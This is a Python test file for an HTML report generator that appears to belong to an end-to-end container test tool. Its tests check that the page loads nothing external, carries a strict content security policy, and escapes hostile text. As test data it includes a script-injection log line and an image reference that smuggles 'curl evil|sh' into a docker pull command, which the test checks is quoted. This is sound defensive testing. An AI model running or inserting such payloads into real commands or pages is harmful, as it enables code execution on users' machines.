"""The page, as far as it can be judged without a browser."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from e2e_matrix.failures import Cause, Outcome
from e2e_matrix.report.html import _environment, render
from e2e_matrix.results import Results, SettingValue
from support import report_samples as samples
from support import script_samples
from support.hostile_results import HOSTILE_TEXT, replaced

FOLDER = Path("unused")
VOID = {"meta", "link", "br", "col", "input", "wbr"}


class Page(HTMLParser):
    """The tags of a page with their attributes; refuses one that is not closed where it should be."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] not in (["script"], ["style"], ["template"]):
            self.words.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.words))


@pytest.mark.parametrize(
    "results",
    [
        samples.six_passed(),
        samples.broken(),
        samples.hostile(),
        samples.large(24),
        script_samples.with_scripts(),
        script_samples.hostile(),
    ],
)
def test_the_page_is_whole_asks_for_nothing_and_runs_nothing(results: Results) -> None:
    page = Page(render(results, FOLDER))
    names = {tag for tag, _ in page.tags}
    assert not names & {
        "img",
        "iframe",
        "object",
        "embed",
        "base",
        "image",
        "audio",
        "video",
    }
    assert [tag for tag, _ in page.tags].count("script") == 1
    identities = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(identities) == len(set(identities))
    for tag, attributes in page.tags:
        assert not [
            name for name in attributes if name.startswith("on") or name in {"style", "src", "srcdoc"}
        ]
        target = attributes.get("href", "#main")
        if target.startswith("#"):
            assert target[1:] in identities
        else:
            assert tag == "link" or not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:|/", target)


def test_the_policy_allows_this_style_and_this_script_and_nothing_else() -> None:
    html = render(samples.hostile(), FOLDER)
    digests = {}
    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
    script = html.split("<script>")[-1].split("</script>", 1)[0]
    for name, text in (("style", style), ("script", script)):
        digests[name] = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
    (policy,) = [
        attributes["content"]
        for tag, attributes in Page(html).tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy.split("; ") == [
        "default-src 'none'",
        f"style-src 'sha256-{digests['style']}'",
        f"script-src 'sha256-{digests['script']}'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert "url(http" not in style
    assert "@import" not in style


def test_the_page_answers_in_the_reader_s_order() -> None:
    html = render(samples.broken(), FOLDER)
    text = Page(html).text
    order = [
        "Not good to ship",
        "2 of 7 cells passed; 2 failed, 1 not decided for want of infrastructure.",
        "$0.0000336 and unknown for 1",
        "anthropic/claude-sonnet-4-5 a real one",
        "What broke",
        "the conversation ended in error: LLMAuthenticationError",
        "Expected",
        "execution_status finished",
        "Got",
        "execution_status error",
        "The log around it",
        "litellm.AuthenticationError",
        "What to do",
        "check the model and its key first",
        "e2e-matrix run --ref 1.58.2 --only java-amd64",
        "Also at step refusals: POST /api/init without a key answered 500; expected 401, got 500",
        "passed only at attempt 2",
        "says how to add emulation",
        "The grid",
        "not planned",
        "Where the time went",
        "Phases, native",
        "Phases, emulated",
        "Each cell",
        "What was tested",
        "Docker Engine 20.10.24+dfsg1, API 1.41",
        "neoverse-n1",
    ]
    # Some words come again later: each is looked for after the one before it.
    at = text.index("ghcr.io/openhands/agent-server:1.58.2-{variant}")
    for part in order:
        at = text.index(part, at)


def test_a_cell_shows_everything_that_is_known_about_it() -> None:
    html = render(samples.six_passed(), FOLDER)
    inside = html.split('id="cell-java-arm64"')[1].split("</article>")[0]
    text = Page(f"<div{inside}</div>").text
    known = [
        "passed", "emulated", "51.6 s", "$0.0000168", "The server boots and says that it is dormant",
        "ghcr.io/openhands/agent-server:3f1c2ab-java", samples.digest("java-arm64"), samples.digest("java"),
        "359 MB compressed, 1.04 GB on disk", "linux/arm64", "3f1c2ab-java-arm64 is the same image",
        "docker pull --platform linux/arm64 ghcr.io/openhands/agent-server@" + samples.digest("java-arm64"),
        "1.58.2", samples.SHA, "aarch64", "96 in, 4 out, 100 in all", "/v1/chat/completions",
        "server.log", "e2e-matrix run --ref 1.58.2 --only java-arm64",
    ]  # fmt: skip
    for part in known:
        assert part in text
    assert 'href="cells/java-arm64/attempt-1/server.log"' in html


def test_the_stand_in_is_never_taken_for_a_model() -> None:
    assert "Stand-in as openai/gpt-4o; nothing was billed" in Page(render(samples.six_passed(), FOLDER)).text


def test_settings_name_their_sources() -> None:
    text = Page(render(samples.six_passed(), FOLDER)).text
    assert re.search(r"ref ?1\.58\.2 ?command line", text)
    assert re.search(r"timeout ?10m ?file", text)


def test_emulated_cells_are_marked_in_words_everywhere() -> None:
    results = samples.six_passed()
    emulated = render(results, FOLDER).count(">emulated<")
    native = samples.run([cell.model_copy(update={"emulated": False}) for cell in results.cells])
    # Each of the three is marked in the grid, its own part and the table of images.
    assert emulated - render(native, FOLDER).count(">emulated<") == 3 * 3
    assert render(results, FOLDER).count(", emulated: passed, from ") == 3


def test_the_same_results_give_the_same_bytes() -> None:
    results = samples.broken()
    again = Results.model_validate_json(results.model_dump_json())
    assert render(results, FOLDER) == render(again, Path("elsewhere"))


def test_nothing_moves_or_hides_what_stands_beside_it() -> None:
    for results in (samples.hostile(), script_samples.hostile()):
        assert not set(render(results, FOLDER)) & {"\x00", "\x1b", "\u202e", "\u202c"}


def test_a_flood_in_a_log_does_not_become_a_flood_in_the_page() -> None:
    assert len(render(samples.hostile(), FOLDER)) < 200_000


def test_a_log_that_cannot_be_there_is_not_linked() -> None:
    html = render(samples.broken(), FOLDER)
    assert "cells/golang-amd64/attempt-1/server.log" not in html
    assert "cells/java-amd64/attempt-1/server.log" in html


def test_a_run_without_cells_is_a_page_too() -> None:
    assert "No cell was planned." in render(samples.run([], verdict=Outcome.CANCELLED), FOLDER)


@given(st.text(max_size=60), st.text(max_size=60))
@settings(max_examples=15, deadline=None)
def test_any_text_leaves_the_page_as_it_is(message: str, name: str) -> None:
    def shape(text: str) -> list[str]:
        cells = samples.broken().cells
        cells[2] = cells[2].model_copy(
            update={
                "message": f"m{text}",
                "steps": [step.model_copy(update={"message": f"m{text}"}) for step in cells[2].steps],
                "server": cells[2].server.model_copy(
                    update={"version": f"v{name}", "build_git_ref": f"r{name}"}
                ),
            }
        )
        return [tag for tag, _ in Page(render(samples.run(cells), FOLDER)).tags]

    assert shape(message) == shape("")


STRUCTURE = {"article", "section", "table", "tr", "th", "td", "details", "pre", "svg", "select", "option"}


@given(st.lists(HOSTILE_TEXT, min_size=1, max_size=8), st.sampled_from(["broken", "scripts", "dense"]))
@settings(max_examples=25, deadline=None)
def test_whatever_stands_in_any_string_the_page_has_the_same_parts(texts: list[str], which: str) -> None:
    made = {"broken": samples.broken, "scripts": script_samples.with_scripts}
    sample = samples.large(61) if which == "dense" else made[which]()

    def parts(results: Results) -> tuple[Counter[str], set[str]]:
        html = render(results, FOLDER)
        found = Counter(tag for tag, _ in Page(html).tags)
        for inside in unpacked(html):
            found += Counter(tag for tag, _ in Page(f"<div>{inside}</div>").tags)
        assert found["script"] == 1
        return Counter({tag: found[tag] for tag in STRUCTURE}), set(found)

    plain, known = parts(replaced(sample, ["plain"]))
    hostile, met = parts(replaced(sample, texts))
    assert hostile == plain
    assert met <= known | {"wbr", "code"}


def test_what_a_template_forgets_to_clean_is_cleaned_all_the_same() -> None:
    shown = _environment().from_string("{{ text }}").render(text="\u202e<b>\x1b[1mtext")
    assert shown == "&lt;b&gt;text"


def test_what_a_log_leaves_out_is_said_where_it_is_linked() -> None:
    results = samples.broken()
    assert "left out" not in render(results, FOLDER)
    results = samples.with_log(results, "java-amd64", 2_000_000_000, 1_993_700_000, complete=False)
    page = Page(render(results, FOLDER)).text
    said = "(1.99 GB from the middle of its 2.00 GB are left out; the engine may have lost some of it)"
    assert page.count(said) == 2  # where it broke, and at the attempt


def test_cells_that_broke_alike_are_told_once() -> None:
    text = Page(render(samples.large(24), FOLDER)).text
    assert text.count("a gated route answered 200 At step") == 1
    assert "failed 4 cells alike python-amd64-1.0.0, java-amd64-1.1.0, " in text


def unpacked(html: str) -> list[str]:
    packs = re.findall(r'<template class="pack">(.*?)</template>', html)
    return [part for pack in packs for part in json.loads(gzip.decompress(base64.b64decode(pack)))]


def test_a_thousand_cells_are_a_page_of_three_megabytes() -> None:
    results = samples.large(1000)
    html = render(results, FOLDER)
    assert len(html.encode()) < 3_000_000
    assert len(unpacked(html)) == 1000
    page = Page(html)
    # Without a script, too: what each came to, how long it took, what it cost, where its log is.
    for cell in results.cells:
        assert cell.id in page.text
    assert page.text.count("51.6 s $0.0000168") >= 2 * 428
    links = [attributes.get("href") for _, attributes in page.tags]
    assert "cells/golang-arm64-1.165.0/attempt-1/server.log" in links
    assert render(results, FOLDER) == html


def test_what_is_inside_a_packed_cell_is_what_an_open_page_shows() -> None:
    results = samples.large(66)
    inside = unpacked(render(results, FOLDER))
    (first,) = [part for part in inside if "--only python-arm64-1.0.0" in part]
    few = samples.run([cell for cell in results.cells if cell.axes["tag"] == "1.0.0"], axes=results.run.axes)
    open_page = render(few, FOLDER)
    assert Page(f"<div>{first}</div>").text.strip() in Page(open_page).text


def test_every_packed_cell_is_as_harmless_as_an_open_one() -> None:
    hostile = samples.hostile().cells[0]
    many = [hostile.model_copy(update={"id": f"python-{number}"}) for number in range(61)]
    html = render(samples.run(many), FOLDER)
    for part in unpacked(html):
        assert not {tag for tag, _ in Page(f"<div>{part}</div>").tags} & {"script", "img", "iframe"}
        assert not set(part) & {"\x00", "\x1b", "\u202e", "\u202c"}


def test_a_log_in_the_folder_is_in_the_page(tmp_path: Path) -> None:
    folder = tmp_path / "cells/java-amd64/attempt-1"
    folder.mkdir(parents=True)
    (folder / "server.log").write_text("</pre><script>window.pwned=1</script>\nthe whole of it\n")
    html = render(samples.broken(), tmp_path)
    assert "&lt;/pre&gt;&lt;script&gt;window.pwned=1&lt;/script&gt;\nthe whole of it" in html
    assert "server.log 2 lines, 54 B" in Page(html).text


def test_a_large_log_is_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "cells/java-amd64/attempt-1"
    folder.mkdir(parents=True)
    (folder / "server.log").write_text("x" * 200_000)
    html = render(samples.broken(), tmp_path)
    assert "server.log has 200 kB: too much for this page." in Page(html).text
    assert len(html) < 200_000


def test_the_attempts_stand_side_by_side() -> None:
    html = render(samples.broken(), FOLDER)
    inside = html.split('id="cell-python-amd64"')[1].split("</article>")[0]
    text = Page(f"<div{inside}</div>").text
    assert "outcomefailed1 of 26 gated routes answers while the server is dormantpassed" in text
    assert "step gatefailedpassed" in text
    assert "step create" not in text  # it was not reached, which is not what broke


def test_a_demo_s_image_cannot_be_pulled_afterwards() -> None:
    html = render(samples.run(samples.six_passed().cells, command=["e2e-matrix", "demo"]), FOLDER)
    assert "docker pull" not in html
    assert "<code>e2e-matrix images serve</code> serves such images again" in html


def test_the_footer_names_what_lies_beside(tmp_path: Path) -> None:
    assert "Beside this page: results.json, report.md." in Page(render(samples.broken(), FOLDER)).text
    results = samples.broken()
    chosen = {"reports.formats": SettingValue(value=["html"], source="file")}
    alone = results.model_copy(update={"run": results.run.model_copy(update={"settings": chosen})})
    assert "Beside this page: results.json." in Page(render(alone, FOLDER)).text


def test_what_changed_since_a_baseline_is_said_after_what_broke(tmp_path: Path) -> None:
    baseline = samples.six_passed()
    (tmp_path / "baseline.json").write_text(baseline.model_dump_json(), encoding="utf-8")
    html = render(samples.broken(), tmp_path)
    text = Page(html).text
    assert text.index("What broke") < text.index("What changed FAIL: fixed: none; newly failing: 2 cells")
    table = html.split('<table class="changes stacks" role="table">')[1].split("</table>")[0]
    words = [word.strip() for word in Page(f"<table>{table}</table>").words if word.strip()]
    told = "java-amd64 newly failing passed → failed 8.62 s → 9.30 s $0.0000168 → unknown same"
    assert told in " ".join(words)
    assert "2 cells came to the same outcome." in text
    assert f"Compared with run {baseline.run.id}" in text


def test_without_a_baseline_nothing_is_said_of_changes() -> None:
    assert "What changed" not in Page(render(samples.broken(), FOLDER)).text


def test_the_end_of_a_long_log_is_in_the_page(tmp_path: Path) -> None:
    folder = tmp_path / "cells/java-amd64/attempt-1"
    folder.mkdir(parents=True)
    (folder / "server.log").write_text(
        "".join(f"{number}\ta line\n" for number in range(6000)) + "the <end>\n"
    )
    html = render(samples.broken(), tmp_path)
    assert "5999    a line\nthe &lt;end&gt;</pre>" in html
    assert "server.log 6,001 lines" in Page(html).text


def test_of_many_attempts_the_one_that_counts_is_shown() -> None:
    failed = {"fail_at": "gate", "cause": Cause.ASSERTION, "message": "a gated route answered 200"}
    attempts = [samples.attempt("python-amd64", False, 0, 12.0 * n, n, **failed) for n in range(1, 21)]
    attempts.append(samples.attempt("python-amd64", False, 0, 260.0, 21))
    html = render(samples.run([samples.cell("python", "amd64", attempts)]), FOLDER)
    header = html.split('<table class="attempts">')[1].split("</thead>")[0]
    shown = re.findall(r'<th scope="col">(\d+)', header)
    assert shown == [*map(str, (1, 2, 3, 4, *range(15, 22)))]
    assert "21 <small>counts</small>" in header
    assert "10 attempts between the first and the last are in results.json." in Page(html).text


def test_values_that_look_alike_are_told_apart_in_the_filter() -> None:
    values = ["", "none", "x" * 100 + "1", "x" * 100 + "2"]
    cells = [
        samples.cell("python", "amd64", [], id=f"c{number}", axes={"variant": "python", "tag": value})
        for number, value in enumerate(values)
    ]
    html = render(samples.run(cells, axes={"variant": ["python"], "tag": values}), FOLDER)
    options = re.findall(r'<option data-v="\d">([^<]*)</option>', html)
    assert len(set(options)) == len(options) == 4


def test_a_worker_that_had_nothing_to_do_is_counted_and_not_drawn() -> None:
    html = render(samples.run(samples.six_passed().cells, workers=256), FOLDER)
    assert "254 workers had nothing to do" in Page(html).text
    assert html.count('<div class="lane') == 3  # with the axis


def test_an_axis_that_a_cell_does_not_have_is_called_none() -> None:
    cells = [
        samples.cell("python", "amd64", [], id=f"c-{tag}", axes={"variant": "python", "tag": tag})
        for tag in ("", "x")
    ]
    html = render(samples.run(cells, axes={"variant": ["python"], "tag": ["", "x"]}), FOLDER)
    headers = re.findall(r'role="columnheader">([^<]*)</th>', html.split('class="grid')[1])
    assert headers[:2] == ["none", "x"]


def test_what_a_command_to_type_again_holds_is_cleaned_too() -> None:
    folder = "a`b\u202e\x1b[31m\x00" + "z" * 20_000
    results = samples.broken()
    settings = {"reports.folder": SettingValue(value=folder, source="file")}
    run = results.run.model_copy(update={"settings": settings})
    html = render(results.model_copy(update={"run": run}), FOLDER)
    assert not set(html) & {"\x00", "\x1b", "\u202e"}
    assert "z" * 5000 not in html


def test_a_flaky_cell_of_which_no_failure_was_kept_is_a_page_too() -> None:
    cell = samples.six_passed().cells[0].model_copy(update={"flaky": True})
    assert "it is not known what" in Page(render(samples.run([cell]), FOLDER)).text


def test_a_reference_that_is_none_is_no_command_when_it_is_copied() -> None:
    cell = samples.six_passed().cells[0]
    image = cell.image.model_copy(update={"pinned": "x@sha256:1; curl evil|sh"})
    html = render(samples.run([cell.model_copy(update={"image": image})]), FOLDER)
    assert "docker pull --platform linux/amd64 &#39;x@sha256:1; curl evil|sh&#39;" in html
